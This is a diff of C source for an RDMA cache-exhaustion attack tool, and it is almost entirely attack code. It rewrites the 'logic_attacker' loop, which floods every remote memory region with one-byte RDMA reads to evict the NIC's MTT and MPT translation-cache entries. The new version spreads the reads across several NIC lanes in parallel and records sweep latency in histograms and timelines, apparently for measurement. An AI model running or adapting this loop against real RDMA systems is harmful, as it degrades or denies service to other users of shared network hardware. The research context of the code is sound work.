@@ -3,18 +3,29 @@
 #include <time.h>
 
 #include "cache_exhauster.h"
+#include "metrics.h"
+#include "timeline.h"
+#include "memutils.h"
 
-const unsigned int PAGE_SIZE = 0x1000;
-const unsigned int PREFETCH_GROUP_SIZE = 8;
-const unsigned int LOWER_INDEX_FIRST_BIT = 15;
-const unsigned int LOWER_INDEX_LAST_BIT = 24;
-const unsigned int UPPER_INDEX_FIRST_BIT = 24;
-const unsigned int UPPER_INDEX_LAST_BIT = 33;
 static volatile int keep_running = 1;
 
+uint32_t attacker_post(WrRing* ring, uint32_t max_reads)
+{
+    return wr_ring_post(ring, max_reads, 1, 0, 1);
+}
+
+uint32_t attacker_step(WrRing* ring, uint32_t max_reads)
+{
+    uint32_t reads = attacker_post(ring, max_reads);
+    do_cq_empty(ring->qp, reads);
+    return reads;
+}
+
 // This basically reads the first byte of each prefetch group in each remote MR .
 // This is done in order to evict existing entries in the MTT and MPT tables.
-void logic_attacker(struct ibv_qp* qp, ConnectionInfoExchange* peer_info, void* local_buf, uint32_t lkey)
+// With several lanes (devices / ports) a single loop keeps all of them busy: it posts a send queue
+// worth on every lane before waiting for any of them, so the lanes' NICs work in parallel.
+void logic_attacker(ClientConnection* conn)
 {
     __sighandler_t prev = signal(SIGINT, sigint_handler);
     if (SIG_ERR == prev)
@@ -22,31 +33,77 @@ void logic_attacker(struct ibv_qp* qp, ConnectionInfoExchange* peer_info, void*
         log_msg("Failed to set signal. Leaving...");
         exit(-1);
     }
-    log_msg("Performing the attack infinitely use Ctrl+C (SIGINT) to stop the attack...");
-    struct timespec start_time;
-    struct timespec end_time;
-    uint64_t i = 0;
+    log_msg("Performing the attack infinitely over %u lanes use Ctrl+C (SIGINT) to stop the attack...", conn->number_of_lanes);
+    metrics_register_thread("attacker");
+    uint32_t number_of_lanes = conn->number_of_lanes;
+    WrRing* rings = do_malloc(number_of_lanes * sizeof(*rings));
+    struct timespec* sweep_start = do_malloc(number_of_lanes * sizeof(*sweep_start));
+    uint32_t* posted = do_malloc(number_of_lanes * sizeof(*posted));
+    uint64_t* sweeps_done = do_malloc(number_of_lanes * sizeof(*sweeps_done));
+    char (*sweep_names)[ENDPOINT_NAME_LEN + 16] = do_malloc(number_of_lanes * sizeof(*sweep_names));
+    for (uint32_t l = 0 ; l < number_of_lanes ; ++l)
+    {
+        wr_ring_init(&rings[l], &conn->lanes[l]);
+        sweeps_done[l] = 0;
+        clock_gettime(CLOCK_REALTIME, &sweep_start[l]);
+        if (1 == number_of_lanes)
+        {
+            snprintf(sweep_names[l], sizeof(sweep_names[l]), "sweep_us");
+        }
+        else
+        {
+            snprintf(sweep_names[l], sizeof(sweep_names[l]), "sweep_us/%s:%hhu", conn->lanes[l].endpoint.dev_name, conn->lanes[l].endpoint.port);
+        }
+    }
+    struct timespec now;
+    struct timespec last_report = sweep_start[0];
+    uint64_t reads_since_report = 0;
     while (keep_running)
     {
-        clock_gettime(CLOCK_REALTIME, &start_time);
-        uint32_t reads = 0;
-        for (uint32_t i = 0 ; i < peer_info->header.number_of_mrs ; ++i)
+        for (uint32_t l = 0 ; l < number_of_lanes ; ++l)
+        {
+            posted[l] = attacker_post(&rings[l], QP_MAX_SEND_WR);
+        }
+        for (uint32_t l = 0 ; l < number_of_lanes ; ++l)
         {
-            for (uint64_t j = 0  ; j < peer_info->mrs[i].size_in_bytes ; j += PREFETCH_GROUP_SIZE)
+            do_cq_empty(rings[l].qp, posted[l]);
+            reads_since_report += posted[l];
+            // attacker_post stops when wrapping around, so a lane finishes at most one sweep per post.
+            if (rings[l].sweeps != sweeps_done[l])
             {
-                do_rdma_read((void*)(peer_info->mrs[i].remote_addr + j), local_buf, peer_info->mrs[i].rkey, lkey, 1, qp);
-                ++reads;
+                clock_gettime(CLOCK_REALTIME, &now);
+                long diff = (now.tv_sec - sweep_start[l].tv_sec)*1000000000 + (now.tv_nsec - sweep_start[l].tv_nsec);
+                sweep_start[l] = now;
+                histogram_record(&thread_metrics->latency_ns, diff);
+                timeline_record("attacker", sweep_names[l], diff / 1000.0);
+                if (sweeps_done[l] % 1000 == 0)
+                {
+                    log_msg("%10llu) %s %u", sweeps_done[l], conn->lanes[l].endpoint.dev_name, diff/1000);
+                }
+                ++sweeps_done[l];
             }
         }
-        do_cq_empty(qp, reads);
-        clock_gettime(CLOCK_REALTIME, &end_time);
-        long diff = (end_time.tv_sec - start_time.tv_sec)*1000000000 + (end_time.tv_nsec - start_time.tv_nsec);
-        if (i % 1000 == 0)
+        if (number_of_lanes > 1)
         {
-            log_msg("%10llu) %u", i, diff/1000);
+            clock_gettime(CLOCK_REALTIME, &now);
+            long elapsed = (now.tv_sec - last_report.tv_sec)*1000000000 + (now.tv_nsec - last_report.tv_nsec);
+            if (elapsed >= 1000000000)
+            {
+                timeline_record("attacker", "reads_per_sec", reads_since_report * 1e9 / elapsed);
+                reads_since_report = 0;
+                last_report = now;
+            }
         }
-        ++i;
     }
+    free(sweep_names);
+    free(sweeps_done);
+    free(posted);
+    free(sweep_start);
+    for (uint32_t l = 0 ; l < number_of_lanes ; ++l)
+    {
+        wr_ring_destroy(&rings[l]);
+    }
+    free(rings);
     prev = signal(SIGINT, prev);
     if (SIG_ERR == prev)
     {